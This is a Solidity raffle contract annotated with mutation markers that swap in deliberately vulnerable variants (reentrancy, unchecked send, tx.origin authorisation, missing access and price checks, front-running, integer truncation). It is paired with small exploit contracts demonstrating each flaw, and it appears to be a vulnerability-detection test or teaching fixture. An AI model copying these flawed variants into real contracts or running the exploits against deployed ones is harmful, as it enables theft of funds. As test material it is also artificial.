// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

contract Raffle {
    address public host;
    uint256 public ticketPrice;
    uint256 public pot;
    address public winner;
    bytes32 public puzzle;
    mapping(address => uint32) public tickets;
    mapping(bytes32 => address) public guesses;
    mapping(address => uint256) public prizes;

    error OnlyHost();
    error WrongPrice();

    constructor(address host_, uint256 ticketPrice_, bytes32 puzzle_) {
        host = host_;
        ticketPrice = ticketPrice_;
        puzzle = puzzle_;
    }

    function enter(uint256 number) external payable {
        //[
        if (msg.value != number * ticketPrice) revert WrongPrice();
        //| guard FreeEntry
        //]
        //[
        require(number <= type(uint32).max - tickets[msg.sender], "too many tickets");
        //| cast LostTickets
        //]
        tickets[msg.sender] += uint32(number);
        pot += msg.value;
    }

    //[
    function secret(address player, string calldata word) public pure returns (bytes32) {
        return keccak256(abi.encode(player, word));
    //| front-running Peek
    //: function secret(address, string calldata word) public pure returns (bytes32) {
    //:     return keccak256(abi.encode(word));
    //]
    }

    function guess(bytes32 hashed) external {
        //[
        require(guesses[hashed] == address(0), "guessed before");
        //| front-running Overwrite
        //]
        guesses[hashed] = msg.sender;
    }

    function solve(string calldata word) external {
        require(keccak256(bytes(word)) == puzzle, "wrong word");
        require(guesses[secret(msg.sender, word)] == msg.sender, "no guess");
        //[
        require(winner == address(0), "solved before");
        //| guard SecondWinner
        //]
        winner = msg.sender;
        prizes[msg.sender] += pot;
    }

    function takePrize() external {
        uint256 prize = prizes[msg.sender];
        //[
        prizes[msg.sender] = 0;
        pot -= prize;
        (bool paidOut, ) = payable(msg.sender).call{value: prize}("");
        require(paidOut, "could not pay");
        //| reentrancy Jackpot
        //: (bool paidOut, ) = payable(msg.sender).call{value: prize}("");
        //: require(paidOut, "could not pay");
        //: prizes[msg.sender] = 0;
        //: pot = pot > prize ? pot - prize : 0;
        //| unchecked-call Unlucky
        //: prizes[msg.sender] = 0;
        //: pot -= prize;
        //: payable(msg.sender).send(prize);
        //]
    }

    function newPuzzle(bytes32 next) external {
        //[
        if (msg.sender != host) revert OnlyHost();
        //| access Rig
        //| tx.origin RigByOrigin
        //: if (tx.origin != host) revert OnlyHost();
        //]
        puzzle = next;
        winner = address(0);
    }
}

//! scene
contract Scene {
    Actor ann = new Actor();
    Raffle target = new Raffle(address(this), 1 ether, keccak256("owl"));

    receive() external payable virtual {}

    function annSolves() internal returns (bool) {
        ann.act(address(target), abi.encodeCall(Raffle.guess, (target.secret(address(ann), "owl"))));
        return ann.act(address(target), abi.encodeCall(Raffle.solve, ("owl")));
    }
}

contract Use is Scene {
    function run() external payable returns (bool) {
        target.enter{value: 3 ether}(3);
        bool ok = annSolves() && ann.act(address(target), abi.encodeCall(Raffle.takePrize, ()));
        target.newPuzzle(keccak256("cat"));
        target.guess(target.secret(address(this), "cat"));
        target.solve("cat");
        return ok && address(ann).balance == 3 ether && target.winner() == address(this) && target.tickets(address(this)) == 3;
    }
}

contract FreeEntry is Scene {
    function run() external payable returns (bool) {
        target.enter(100);
        return target.tickets(address(this)) == 100;
    }
}

contract LostTickets {
    function run() external payable returns (bool) {
        Raffle cheap = new Raffle(address(this), 1, "");
        cheap.enter{value: 1 << 32}(1 << 32);
        return cheap.tickets(address(this)) == 0 && cheap.pot() == 1 << 32;
    }
}

contract Peek is Scene {
    function run() external payable returns (bool) {
        target.guess(target.secret(address(ann), "owl"));
        ann.act(address(target), abi.encodeCall(Raffle.guess, (target.secret(address(ann), "owl"))));
        target.solve("owl");
        return target.winner() == address(this);
    }
}

contract Overwrite is Scene {
    function run() external payable returns (bool) {
        bytes32 hashed = target.secret(address(ann), "owl");
        ann.act(address(target), abi.encodeCall(Raffle.guess, (hashed)));
        target.guess(hashed);
        return target.guesses(hashed) == address(this);
    }
}

contract SecondWinner is Scene {
    function run() external payable returns (bool) {
        annSolves();
        target.guess(target.secret(address(this), "owl"));
        target.solve("owl");
        return target.winner() == address(this);
    }
}

contract Jackpot is Scene {
    uint256 left = 1;

    receive() external payable override {
        if (left > 0) {
            left--;
            target.takePrize();
        }
    }

    function run() external payable returns (bool) {
        target.enter{value: 2 ether}(2);
        target.guess(target.secret(address(this), "owl"));
        target.solve("owl");
        ann.act{value: 5 ether}(address(target), abi.encodeCall(Raffle.enter, (5)));
        uint256 had = address(this).balance;
        target.takePrize();
        return address(this).balance > had + 2 ether;
    }
}

contract Unlucky {
    function run() external payable returns (bool) {
        Raffle target = new Raffle(address(this), 1 ether, keccak256("owl"));
        target.enter{value: 2 ether}(2);
        target.guess(target.secret(address(this), "owl"));
        target.solve("owl");
        target.takePrize();
        return target.prizes(address(this)) == 0 && address(target).balance == 2 ether;
    }
}

contract Rig is Scene {
    function run() external payable returns (bool) {
        return ann.act(address(target), abi.encodeCall(Raffle.newPuzzle, ("")));
    }
}

contract RigByOrigin {
    function run() external payable returns (bool) {
        Raffle target = new Raffle(tx.origin, 1, "");
        target.newPuzzle("mine");
        return target.puzzle() == "mine";
    }
}
